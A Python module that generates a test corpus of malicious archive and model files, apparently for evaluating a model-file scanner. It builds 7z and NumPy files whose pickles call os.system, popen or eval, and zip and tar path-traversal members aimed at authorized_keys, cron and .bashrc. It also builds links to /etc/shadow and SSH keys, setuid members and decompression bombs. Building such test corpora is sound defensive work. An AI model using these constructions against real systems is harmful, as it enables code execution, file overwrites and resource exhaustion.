"""Archives: 7z, tar, slips, links, bombs, and NumPy's files."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib

from .pickles import Call, G, pickle, system
from .zips import Member, archive, torch


def number7(value):
    """A number of 7z: the leading ones of the first byte say how many follow."""
    for extra in range(8):
        if value < 1 << (7 * (extra + 1)):
            first = (0xFF << (8 - extra)) & 0xFF | value >> (8 * extra)
            return bytes([first]) + (value & ((1 << 8 * extra) - 1)).to_bytes(extra, "little")
    return b"\xff" + value.to_bytes(8, "little")


def seven(name, data, codec="copy"):
    """A 7z archive of one member."""
    if codec == "copy":
        packed, coder = data, b"\x01\x00"
    else:
        options = {"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16} if codec == "lzma2" else {"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}
        packed = lzma.compress(data, lzma.FORMAT_RAW, filters=[options])
        coder = b"\x21\x21\x01\x08" if codec == "lzma2" else b"\x23\x03\x01\x01\x05\x5d" + struct.pack("<I", 1 << 16)
    streams = b"\x06\x00\x01\x09" + number7(len(packed)) + b"\x00\x07\x0b\x01\x00\x01" + coder + b"\x0c" + number7(len(data)) + b"\x00\x08\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00\x00"
    encoded = b"\x00" + name.encode("utf-16-le") + b"\0\0"
    files = b"\x05\x01\x11" + number7(len(encoded)) + encoded + b"\x00"
    head = b"\x01\x04" + streams + files + b"\x00"
    start = struct.pack("<QQI", len(packed), len(head), zlib.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + head


def sevens(corpus):
    bad = system("true", 2)
    cases = [("data.pkl", "m.7z", "copy"), ("data.pkl", "model.pt", "lzma2"), ("weights", "model.bin", "lzma"), ("a/b/data.pickle", "m.pth", "copy"), ("model.pt", "m.7z", "lzma2"), ("clf.joblib", "clf.pkl", "lzma"), ("x.txt", "ckpt.ckpt", "lzma2"), ("../../.bashrc", "s.7z", "copy")]
    for number, (inner, outer, codec) in enumerate(cases):
        data = [bad, torch(bad), pickle(Call(G("os", "popen"), "true"), 4)][number % 3] if number < 7 else b"true\n"
        corpus.add("seven-zip", "7z", outer, seven(inner, data, codec), f"7z ({codec}) named {outer}, whose {inner} calls" if number < 7 else "the member leaves the folder")


def npy(value, version=1, dtype="|O", shape="(1,)", fortran=False):
    """An .npy file whose array is an object, and so a pickle."""
    head = f"{{'descr': '{dtype}', 'fortran_order': {fortran}, 'shape': {shape}, }}".encode()
    width = 2 if version == 1 else 4
    head += b" " * (-(len(head) + 9 + width) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(head)) + head + value


def numpy(corpus):
    calls = [Call(G("os", "system"), "true"), [Call(G("builtins", "eval"), "1")], Call(G("subprocess", "check_call"), ["true"]), {"x": Call(G("posix", "system"), "id")}, Call(G("numpy.testing._private.utils", "runstring"), "pass", {})]
    for number, call in enumerate(calls):
        corpus.add("numpy-object", "npy", f"a{number}.npy", npy(pickle(call, 2 + number % 4), 1 + number % 3, "|O" if number != 3 else "O", f"({number + 1},)"), "an array of objects, whose pickle calls")
    for number, deflate in enumerate([False, True]):
        corpus.add("numpy-object", "npz", f"z{number}.npz", archive([Member("x.npy", npy(bytes(8), 1, "<f8")), Member("y.npy", npy(pickle(calls[number], 3)), deflate=deflate)]), "one of the arrays is of objects")
    corpus.add("numpy-object", "npz", "z5.npz", archive([Member("allow.npy", system("true", 4))]), "a member that is no array but a pickle, which numpy.load reads as one")
    corpus.add("numpy-object", "npy", "b.npy", system("echo renamed", 4), "a pickle named .npy, which numpy.load reads as one")
    record = npy(pickle([Call(G("os", "system"), "true")], 4), 2, "X").replace(b"'X'", b"[('a', '<f4'), ('b', 'O')]")
    corpus.add("numpy-object", "npy", "c.npy", record, "a record with a field of objects")


def tar(entries, mode="w"):
    """A tar of (name, kind, link or data, mode)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as made:
        for name, kind, value, bits in entries:
            info = tarfile.TarInfo(name)
            info.type, info.mode = kind, bits
            if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info.linkname = value
                made.addfile(info)
            elif kind == tarfile.REGTYPE:
                info.size = len(value)
                made.addfile(info, io.BytesIO(value))
            else:
                info.devmajor, info.devminor = 1, 3
                made.addfile(info)
    return out.getvalue()


def slips(corpus):
    key = b"ssh-ed25519 AAAA corpus\n"
    regular, link, hard = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
    for number, name in enumerate(["../../.ssh/authorized_keys", "/etc/cron.d/corpus", "a/../../../../root/.profile", "..\\..\\Startup\\c.bat", "C:\\Windows\\c.dll", "model/./../..//.bashrc", "\\\\10.9.8.7\\share\\c"]):
        corpus.add("zip-slip", "zip", f"slip{number}.zip", archive([Member("config.json", b"{}"), Member(name, key)]), f"unpacks {name}")
        if number < 4:
            corpus.add("zip-slip", "tar", f"slip{number}.tar", tar([("config.json", regular, b"{}", 0o644), (name, regular, key, 0o644)]), f"unpacks {name}")
    for number, outer in enumerate(["m.keras", "m.nemo", "m.mar", "m.tar.gz", "m.skops", "m.npz"]):
        entries = [("../../../tmp/.corpus-" + str(number), b"x")]
        data = gzip.compress(tar([(name, regular, data, 0o644) for name, data in entries]), mtime=0) if outer in ("m.tar.gz", "m.nemo") else archive([Member("config.json", b"{}"), *[Member(*each) for each in entries]])
        corpus.add("zip-slip", outer.split(".", 1)[1], outer, data, "a member leaves the folder")
    sym = archive([Member("w", b"/etc/passwd", attributes=0o120777 << 16, made=0x0314), Member("w/x", b"y")])
    corpus.add("zip-slip", "zip", "sym.zip", sym, "a symbolic link out of the folder, and a file through it")
    odd = [
        [("x", link, "/etc/shadow", 0o777)], [("x", link, "../../..", 0o777), ("x/.bashrc", regular, b"true\n", 0o644)], [("x", hard, "/etc/passwd", 0o644)], [("dev", tarfile.CHRTYPE, None, 0o666)], [("disk", tarfile.BLKTYPE, None, 0o666)], [("pipe", tarfile.FIFOTYPE, None, 0o644)],
        [("su", regular, b"\x7fELF" + bytes(60), 0o4755)], [("sg", regular, b"#!/bin/sh\ntrue\n", 0o2755)], [("a", link, "b", 0o777), ("b", link, "../../../etc", 0o777), ("a/cron.d/c", regular, b"x", 0o644)], [("h", hard, "../../../root/.ssh/id_rsa", 0o600)],
    ]
    for number, entries in enumerate(odd):
        mode = ["w", "w:gz", "w:bz2", "w:xz"][number % 4] if number % 4 != 1 else "w"
        corpus.add("tar-member", "tar", f"odd{number}.tar" + {"w": "", "w:bz2": ".bz2", "w:xz": ".xz"}[mode], tar([("model.bin", regular, bytes(64), 0o644), *entries], mode), "a member that is a way out, a device, or runs as somebody else")


def bombs(corpus):
    zeros = bytes(1 << 20)

    def pump(tool, turns=320):
        return b"".join([tool.compress(zeros) for _ in range(turns)]) + tool.flush()

    corpus.add("bomb", "zlib", "b.joblib", pump(zlib.compressobj(9)), "320 MiB from a third of one")
    corpus.add("bomb", "gzip", "b.pkl.gz", pump(zlib.compressobj(9, zlib.DEFLATED, 31)), "320 MiB from a third of one")
    corpus.add("bomb", "xz", "b.pkl.xz", pump(lzma.LZMACompressor(preset=1)), "320 MiB from 50 KiB")
    corpus.add("bomb", "bzip2", "b.joblib", pump(bz2.BZ2Compressor(9), 192), "192 MiB from 200 bytes")
    deflated = pump(zlib.compressobj(9, zlib.DEFLATED, -15), 400)
    member = Member("archive/data/0", b"", method=8, crc=0)
    member.packed, member.size = deflated, 400 << 20
    local = b"PK\3\4" + struct.pack("<5H3L2H", 20, 0, 8, 0, 33, 0, len(deflated), 400 << 20, 14, 0) + b"archive/data/0" + deflated
    central = b"PK\1\2" + struct.pack("<6H3L5H2L", 20, 20, 0, 8, 0, 33, 0, len(deflated), 400 << 20, 14, 0, 0, 0, 0, 0, 0) + b"archive/data/0"
    corpus.add("bomb", "zip", "b.pt", local + central + b"PK\5\6" + struct.pack("<4H2LH", 0, 0, 1, 1, len(central), len(local), 0), "400 MiB from a third of one")
    many = b"".join(b"PK\1\2" + struct.pack("<6H3L5H2L", 20, 20, 0, 8, 0, 33, 0, len(deflated), 400 << 20, 6, 0, 0, 0, 0, 0, 0) + b"%06d" % n for n in range(400))
    corpus.add("bomb", "zip", "overlap.npz", local + many + b"PK\5\6" + struct.pack("<4H2LH", 0, 0, 400, 400, len(many), len(local), 0), "400 members that share their bytes: 160 GiB")


def make(corpus):
    for part in [sevens, numpy, slips, bombs]:
        part(corpus)
